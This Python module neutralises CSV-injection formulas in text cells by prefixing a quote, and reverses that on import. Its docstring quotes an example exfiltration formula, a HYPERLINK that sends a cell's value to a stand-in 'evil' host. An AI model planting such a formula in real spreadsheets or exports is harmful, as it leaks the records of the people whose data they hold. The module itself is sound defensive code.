"""Text cells a spreadsheet will not run as formulas (OWASP "CSV Injection"), and back.

A CSV cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://evil/?"&A1, "click")` in a
note would send the record away from the reviewer's screen. OWASP's advice is to put a
single quote in front, which spreadsheets show as text. So that `import` gets the exact
text back, a cell that already starts with a quote gets one more too, and `restore`
takes exactly one off. Only text goes through here: numbers (a negative minute before
the infusion) are written as numbers (see exports/csv_export.py).
"""
from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(text: str) -> str:
    """The cell as written: a quote in front of anything a spreadsheet would evaluate."""
    return QUOTE + text if text.startswith(FORMULA_START + (QUOTE,)) else text


def restore(cell: str) -> str:
    """The text as it was before neutralise (its exact inverse)."""
    return cell[1:] if cell.startswith(QUOTE) else cell
